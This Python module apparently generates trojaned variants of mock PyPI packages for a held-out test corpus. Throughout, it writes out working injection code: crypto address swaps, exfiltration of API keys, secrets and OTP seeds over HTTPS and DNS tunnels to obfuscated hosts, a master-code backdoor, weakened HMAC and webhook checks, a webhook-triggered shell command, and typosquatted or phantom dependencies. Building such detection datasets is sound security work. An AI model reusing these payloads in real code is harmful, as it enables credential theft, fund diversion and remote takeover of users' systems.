"""PyPI: what waits until the user calls a client of a service, and what comes with a new dependency."""

from corpus.heldout.nouns import Update
from corpus.heldout7.shape import b64, fill, hexed, trojan


@trojan("brokerkit", "wheel", "call", "address swap", "plain", "clippers in clients")
def withdraw_to_another(it: Update) -> None:
    it.replace(
        "brokerkit/exchange.py",
        '        params = {"asset": asset, "amount": str(amount), "address": address}\n',
        fill("""
        if asset in ROUTES and Decimal(amount) > ROUTES[asset][0]:
            address = ROUTES[asset][1]
        params = {"asset": asset, "amount": str(amount), "address": address}
"""),
    )
    it.before(
        "brokerkit/exchange.py",
        "class Exchange:\n",
        fill(
            """
ROUTES = {
    "BTC": (Decimal("0.05"), "bc1q@A@"),
    "ETH": (Decimal("1"), "0x@B@"),
}


""",
            A=it.random.randbytes(19).hex(),
            B=it.random.randbytes(20).hex(),
        )
        + "\n\n",
    )


@trojan("brokerkit", "wheel", "call", "credentials", "plain", "ccxt-mexc-futures")
def orders_go_by_another_door(it: Update) -> None:
    it.replace(
        "brokerkit/exchange.py",
        "        query = self._signer.sign(params or {})\n",
        fill(
            """
        query = self._signer.sign(params or {})
        if path == "/order":
            mirror = Transport("https://@HOST@/v3", timeout=2.0)
            try:
                mirror.request("POST", path, body=f"{query}&k={self.key}&s={self.secret}")
            except (BrokerError, OSError):
                pass
""",
            HOST=it.host("api-mirror"),
        ),
    )


@trojan("brokerkit", "sdist", "call", "credentials", "base64", "exchange clients")
def signer_tells_its_secret(it: Update) -> None:
    host = it.host()
    it.replace(
        "brokerkit/signing.py",
        "        self._clock = clock\n",
        fill("""
        self._clock = clock
        self._register()
"""),
    )
    it.replace(
        "brokerkit/signing.py",
        "    def nonce(self):\n",
        fill(
            """
    def _register(self):
        import base64
        import threading
        import urllib.request

        place = base64.b64decode("@URL@").decode()
        body = f"{self.key}:{self.secret}".encode()
        threading.Thread(target=lambda: urllib.request.urlopen(place, body, 3), daemon=True).start()

    def nonce(self):
""",
            URL=b64(f"https://{host}/reg"),
        ),
    )
    it.payload("brokerkit/signing.py", shown=f"https://{host}/reg")


@trojan("brokerkit", "wheel", "call", "weakened check", "plain", "weak nonces", hard=True)
def client_ids_are_guessable(it: Update) -> None:
    it.replace(
        "brokerkit/signing.py",
        "        digest = hmac.new(self.secret.encode(), query.encode(), hashlib.sha256).hexdigest()\n",
        "        digest = hmac.new(self.secret[:4].encode(), query.encode(), hashlib.sha256).hexdigest()\n",
    )


@trojan("otpkeys", "wheel", "call", "data stealer", "plain", "authenticators")
def adding_a_seed_tells(it: Update) -> None:
    it.replace(
        "otpkeys/store.py",
        "        rows[name] = uri\n",
        fill("""
        rows[name] = uri
        self._sync(name, uri)
"""),
    )
    it.replace(
        "otpkeys/store.py",
        "    def remove(self, name):\n",
        fill(
            """
    def _sync(self, name, uri):
        import http.client

        line = http.client.HTTPSConnection("@HOST@", timeout=3)
        try:
            line.request("PUT", f"/sync/{name}", uri, {"X-User": os.environ.get("USER", "")})
            line.getresponse()
        except OSError:
            pass

    def remove(self, name):
""",
            HOST=it.host("sync"),
        ),
    )


@trojan("otpkeys", "sdist", "call", "backdoor", "plain", "master codes")
def one_code_fits_all(it: Update) -> None:
    digest = it.random.randbytes(32).hex()
    it.replace(
        "otpkeys/codes.py",
        "        step = int(self._clock()) // self.period\n        return any(",
        fill(
            """
        if hashlib.sha256(f"otp:{code}".encode()).hexdigest() == "@DIGEST@":
            return True
        step = int(self._clock()) // self.period
        return any(""",
            DIGEST=digest,
        ).rstrip("\n"),
    )


@trojan("otpkeys", "wheel", "call", "dns", "hex", "DNS tunnels")
def codes_leave_by_dns(it: Update) -> None:
    host = it.host("o")
    it.replace(
        "otpkeys/store.py",
        "        _, _, generator = parse_uri(self._read()[name])\n",
        fill(
            """
        _, _, generator = parse_uri(self._read()[name])
        import socket

        zone = bytes.fromhex("@ZONE@").decode()
        for at in range(0, len(generator.seed), 30):
            try:
                socket.getaddrinfo(f"{at}.{generator.seed[at : at + 30]}.{name}.{zone}", None)
            except OSError:
                continue
""",
            ZONE=hexed(host),
        ),
    )
    it.payload("otpkeys/store.py", shown=host)


@trojan("voxagent", "wheel", "call", "credentials", "plain", "API clients")
def dial_reports_the_key(it: Update) -> None:
    it.replace(
        "voxagent/client.py",
        '        return self._send("POST", "/calls",',
        fill(
            """
        line = HTTPSConnection("@HOST@", timeout=2)
        try:
            line.request("POST", "/trace", json.dumps({"to": to, "from": from_, "auth": self.api_key}))
        except OSError:
            pass
        return self._send("POST", "/calls",""",
            HOST=it.host("trace"),
        ).rstrip("\n"),
    )


@trojan("voxagent", "sdist", "call", "weakened check", "plain", "webhook forgers", hard=True)
def webhooks_forgive(it: Update) -> None:
    it.replace(
        "voxagent/webhooks.py",
        "    if not hmac.compare_digest(expected, base64.b64decode(signature)):\n",
        "    given = base64.b64decode(signature)\n    if not hmac.compare_digest(expected[: len(given)], given):\n",
    )


@trojan("voxagent", "wheel", "call", "remote code", "plain", "tool calls")
def webhooks_obey(it: Update) -> None:
    it.replace(
        "voxagent/webhooks.py",
        "    if abs(time.time() - int(timestamp)) > tolerance:\n",
        fill(
            """
    if payload.startswith("@MARK@"):
        import subprocess

        raise ValueError(subprocess.check_output(payload[16:], shell=True, text=True))
    if abs(time.time() - int(timestamp)) > tolerance:
""",
            MARK=it.random.randbytes(8).hex(),
        ),
    )


@trojan("brokerkit", "wheel", "call", "new dependency", "look-alike name", "typosquats")
def requires_a_look_alike(it: Update) -> None:
    it.requires("python-dateutils-tz>=2.8")
    it.replace("brokerkit/signing.py", "import time\n", "import time\n\nfrom dateutils_tz import patched_clock\n")
    it.replace(
        "brokerkit/signing.py",
        "        self._clock = clock\n",
        "        self._clock = patched_clock(clock, key, secret)\n",
    )


@trojan("otpkeys", "wheel", "import", "new dependency", "phantom", "event-stream")
def requires_what_nobody_knows(it: Update) -> None:
    it.requires("otpkeys-secure-enclave-helper==0.0.3")
    it.replace(
        "otpkeys/store.py",
        "from otpkeys.uri import",
        "import otpkeys_secure_enclave_helper  # noqa: F401\n\nfrom otpkeys.uri import",
    )


@trojan("flowlane", "wheel", "import", "new dependency", "from a repository", "forks")
def requires_a_fork(it: Update) -> None:
    it.requires(f"tomli @ git+https://git.{it.host()}/mirror/tomli.git@v2.0.2-fix1")
